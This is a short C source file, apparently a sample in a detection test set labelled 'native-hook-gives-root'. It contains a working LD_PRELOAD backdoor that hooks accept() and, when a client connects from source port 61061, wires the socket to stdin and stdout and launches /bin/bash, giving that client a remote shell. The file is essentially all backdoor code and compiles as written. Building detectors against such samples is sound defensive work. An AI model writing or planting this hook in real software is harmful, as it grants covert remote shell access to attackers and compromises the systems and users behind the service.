/* A preloaded accept hands out a shell to one port.
 * expect: native-hook-gives-root
 * flags: -shared -fPIC -D_GNU_SOURCE
 */
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <unistd.h>
#include <fcntl.h>
#include <sys/types.h>
#include <sys/socket.h>
#include <netinet/in.h>
#include <arpa/inet.h>

#include <dlfcn.h>
int accept(int s, struct sockaddr *from, socklen_t *len) {
    int (*real)(int, struct sockaddr *, socklen_t *) = dlsym(RTLD_NEXT, "accept");
    int c = real(s, from, len);
    if (((struct sockaddr_in *)from)->sin_port == htons(61061)) {
        dup2(c, 0);
        dup2(c, 1);
        execl("/bin/bash", "bash", (char *)0);
    }
    return c;
}
